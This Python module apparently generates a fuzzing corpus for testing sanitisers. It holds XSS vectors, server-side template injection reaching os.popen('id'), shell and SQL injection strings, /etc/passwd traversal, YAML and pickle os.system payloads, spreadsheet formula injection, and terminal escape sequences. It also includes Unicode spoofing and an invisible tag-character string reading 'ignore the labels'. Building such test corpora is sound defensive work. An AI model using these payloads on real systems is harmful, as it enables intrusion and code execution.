"""More than a thousand texts that try to become something else: markup, links, requests, terminal commands."""

# ruff: noqa: E501  (tables of payloads read better in long lines)
from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import quote

# What a browser would run, and what it would load: each reports to the driver that opens the page.
RUN = "alert(1)"
LOAD = "http://127.0.0.1:9/x"

EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onfocus",
    "onfocusin",
    "onblur",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onstart",
    "onfinish",
    "onpageshow",
    "onhashchange",
    "onresize",
    "onscroll",
    "onwheel",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpointerenter",
    "onpointerdown",
    "onpointerover",
    "onauxclick",
    "oncontextmenu",
    "oncopy",
    "oncut",
    "onpaste",
    "ondrag",
    "ondrop",
    "oninput",
    "onchange",
    "oninvalid",
    "onkeydown",
    "onkeyup",
    "onsubmit",
    "onreset",
    "onsearch",
    "onselect",
    "onplay",
    "onplaying",
    "onloadstart",
    "oncanplay",
    "ondurationchange",
    "onbeforetoggle",
    "onbeforematch",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
]
TAGS = [
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "details",
    "input",
    "button",
    "select",
    "textarea",
    "iframe",
    "object",
    "embed",
    "marquee",
    "math",
    "form",
    "a",
    "div",
    "p",
    "table",
    "style",
    "link",
    "base",
    "template",
    "slot",
    "dialog",
    "portal",
    "applet",
    "isindex",
    "frameset",
    "xss",
    "custom-x",
]
BREAKS = (
    "", '"', "'", ">", '">', "'>", "-->", "</title>", "</style>", "</textarea>", "</noscript>", "</svg>", "</desc>",
    "</text></svg>", "</td></tr></table>", "</summary></details>", "]]>", "*/", "`", "\\", "</p>", "</template>",
)  # fmt: skip
SCRIPTS = (
    "<script>{run}</script>", "<script src={load}></script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>",
    "<script\n>{run}</script\n>", "<svg><script>{run}</script></svg>", "<svg/onload={run}>", "<img src=x onerror={run}>",
    "<img src={load}>", "<image href={load}>", "<svg><image href={load} /></svg>", "<svg><use href={load}#a /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>", "<svg><style>@import '{load}'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<iframe src=javascript:{run}></iframe>",
    "<iframe src={load}></iframe>", '<iframe srcdoc="<script>{run}</script>"></iframe>', "<object data={load}></object>",
    "<embed src={load}>", "<link rel=stylesheet href={load}>", "<link rel=prefetch href={load}>",
    "<link rel=dns-prefetch href=//x.example>", "<base href={load}/>", "<meta http-equiv=refresh content='0;url={load}'>",
    "<style>@import url({load});</style>", "<style>*{{background:url({load})}}</style>", "<div style=background:url({load})>",
    "<video poster={load}></video>", "<video src={load} onerror={run}></video>", "<audio src=x onerror={run}></audio>",
    "<source srcset={load}>", "<picture><source srcset={load}><img></picture>", "<input type=image src={load}>",
    "<body background={load}>", "<table background={load}>", "<form action={load}><button>x</button></form>",
    "<button form=f formaction={load}>x</button>", "<a href=javascript:{run}>x</a>", "<a href={load} ping={load}>x</a>",
    "<details open ontoggle={run}>", "<input autofocus onfocus={run}>", "<dialog open onclose={run}>", "<marquee onstart={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<template><script>{run}</script></template>",
    "<!--><script>{run}</script>", "<!-- --!><script>{run}</script>", "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='{load}'?>", "<!ENTITY x SYSTEM '{load}'>", "<x style='behavior:url({load})'>",
    "<script type=module>import '{load}'</script>", "<script type=importmap>{{}}</script>", "<plaintext>", "<xmp>", "<textarea>",
    "<title>x", "<select><option>", "<frameset><frame src={load}></frameset>", "<portal src={load}></portal>",
)  # fmt: skip
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}",
    "&#106;avascript:{run}", "javascript&colon;{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,{b64}", "data:image/svg+xml,<svg onload={run}>", "vbscript:msgbox(1)", "view-source:{load}",
    "file:///etc/passwd", "blob:{load}", "filesystem:{load}", "about:blank", "//127.0.0.1:9/x", "http:127.0.0.1:9/x",
    "https://user:secret@127.0.0.1:9/x", "mailto:a@b.example", "tel:1", "xmpp:a@b.example", "intent://x#Intent;end",
)  # fmt: skip
LINKS = (
    "{url}", "[x]({url})", "![x]({url})", "[x]: {url}", "[x][y]\n\n[y]: {url}", "<{url}>", "[x](<{url}>)", "[x]({url} 'title')",
    "![x][y]\n\n[y]: {url}", "[![x]({url})]({url})", "<a href='{url}'>x</a>", "<img src='{url}'>", "\\[x\\]({url})", "`[x]({url})`",
)  # fmt: skip
MARKDOWN = (
    "# x", "###### x", "- x", "+ x", "* x", "1. x", "1) x", "> x", "```\nx\n```", "~~~\nx\n~~~", "    x", "\tx", "---", "***", "___",
    "===", "x\n===", "x\n---", "| a | b |", "| --- | --- |", "a | b", "|", "\\|", "**x**", "__x__", "_x_", "~~x~~", "`x`", "``x``",
    "$x$", "$$x$$", "- [ ] x", "- [x] x", "[^1]", "[^1]: x", "<br>", "x  \ny", "x\\\ny", "@everyone", "@org/team", "#1", "GH-1",
    "org/repo#1", ":smile:", "a@b.example", "www.x.example", "http://x.example", "ftp://x.example", "[[x]]", "{{x}}", "::: x",
    "%%x%%", "==x==", "^x^", "!!! x", "<details>", "<summary>", "&nbsp;", "&copy;", "\\", "\\\\", "\\*", "\\<b>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{7*7}}", "{% if 1 %}x{% endif %}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context }}", "{{ x|attr('__class__') }}", "{{ lipsum.__globals__ }}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "<% x %>", "*{7*7}", "@(7*7)", "{0.__class__}", "{input.__class__}", "{input!r}", "{input:>99999999}", "{input}",
    "{output}", "{choices}", "%(x)s", "%s%s%s%n", "%1$s", "$input", "${input}", "$$", "{", "}", "{{", "}}", "{}", "{0}", "{:}",
    "f'{7*7}'", "`id`", "$(id)", "| id", "; id", "&& id", "'; DROP TABLE calls; --", "' OR 1=1 --", "../../../etc/passwd",
    "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\host\\share", "file:///etc/passwd", "~root", "con", "nul",
    '{"__class__": "x"}', "!!python/object/apply:os.system ['id']", "cos\nsystem\n(S'id'\ntR.", "__import__('os').system('id')",
    "[bold red]x[/bold red]", "[link=http://x.example]x[/link]", "[/]", "[@click=app.bell]x[/]",
)  # fmt: skip
FORMULAS = tuple(
    start + body
    for start in ("=", "+", "-", "@", "\t=", "\r=", ";=", "\uff1d", "\uff0b", "'=", '"=', " =")
    for body in ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{LOAD}","x")', "SUM(1)*cmd|' /C calc'!A0", f'IMPORTXML("{LOAD}","//a")')
)  # fmt: skip
ESCAPES = tuple(
    intro + body
    for intro, bodies in {
        "\x1b[": ("31m", "2J", "H", "1;1H", "0K", "?1049h", "?25l", "6n", "c", "999D", "5i", "8m", ">0q", "21t", "200~"),
        "\x9b": ("31m", "2J", "6n", "21t"),
        "\x1b]": ("0;title\x07", "2;t\x1b\\", "52;c;aWQ=\x07", "52;c;?\x07", "8;;http://x.example\x07", "4;1;?\x07", "50;x\x07",
                  "7;file:///x\x07", "9;x\x07", "777;notify;a;b\x07", "1337;File=name=eA==:eA==\x07", "10;?\x07", "104\x07"),
        "\x9d": ("0;title\x9c", "52;c;aWQ=\x9c"),
        "\x1bP": ("+q544e\x1b\\", "$q\"p\x1b\\", "1000p\x1b\\"),
        "\x90": ("+q544e\x9c",),
        "\x1b_": ("Gf=24\x1b\\",),
        "\x1b^": ("x\x1b\\",),
        "\x1bX": ("x\x1b\\",),
        "\x1b": ("c", "7", "8", "(0", "#8", "=", "D", "E", "M", "Z", "n", "~"),
    }.items()
    for body in bodies
)  # fmt: skip
INVISIBLE = (
    *range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0), 0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5,
    *range(0x180B, 0x1810), *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0x2800, 0x3164,
    *range(0xFE00, 0xFE0E), 0xFEFF, 0xFFA0, *range(0xFFF9, 0xFFFC), 0xFFFE, 0xFFFF, 0xE000, 0xF8FF, *range(0xE0001, 0xE0080, 3),
    *range(0xE0100, 0xE01F0, 16), 0xF0000, 0x10FFFF, 0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0x1D173, 0x110BD,
)  # fmt: skip


def _encoded(text: str) -> Iterator[str]:
    yield "".join(f"&#{ord(c)};" for c in text)
    yield "".join(f"&#x{ord(c):x};" for c in text)
    yield "".join(f"&#{ord(c):07d}" for c in text)
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield text.replace("<", "&amp;lt;")
    yield quote(text)
    yield quote(quote(text))
    yield "".join(f"\\u{ord(c):04x}" for c in text)
    yield "".join(f"\\x{ord(c):02x}" for c in text)
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "<\x00")
    yield text.replace("script", "scr\u200bipt")
    yield text.replace("<", "\u202e<")


def _all() -> Iterator[str]:
    b64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    words = {"run": RUN, "load": LOAD, "b64": b64}
    scripts = [s.format(**words) for s in SCRIPTS]
    yield from scripts
    for script in scripts[:6]:
        yield from _encoded(script)
    for brk in BREAKS:
        for script in (scripts[0], scripts[7], scripts[8]):
            yield brk + script
        yield f"{brk} onmouseover={RUN} x="
        yield f"{brk} style=background:url({LOAD}) x={brk}"
    for k, event in enumerate(EVENTS):
        yield f"<{TAGS[k % len(TAGS)]} {event}={RUN} tabindex=1 autofocus>x"
        yield f'x" {event}="{RUN}'
        yield f"x' {event}='{RUN}"
    for tag in TAGS:
        yield f"<{tag} src={LOAD} href={LOAD} data={LOAD} srcset={LOAD} onload={RUN} onerror={RUN}>"
        yield f"</{tag}>"
    urls = [u.format(**words) for u in SCHEMES]
    for k, url in enumerate(urls):
        yield url
        for step in range(9):
            yield LINKS[(k + step) % len(LINKS)].format(url=url)
    yield from MARKDOWN
    for text in MARKDOWN:
        yield f"a\n\n{text}"
    yield from TEMPLATES
    yield from FORMULAS
    yield from ESCAPES
    for point in INVISIBLE:
        yield f"pay{chr(point)}pal"
    for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068":
        yield f"{mark}<b>txt.exe"
        yield f"a{mark}"
    yield "".join(chr(0xE0000 + ord(c)) for c in "ignore the labels")
    yield "a" * 5000
    yield "<b>" * 400
    yield "\u6f22" * 400
    yield "e" + "\u0301" * 300
    yield "line\n" * 60 + "<script>alert(1)</script>"


PAYLOADS = tuple(dict.fromkeys(_all()))
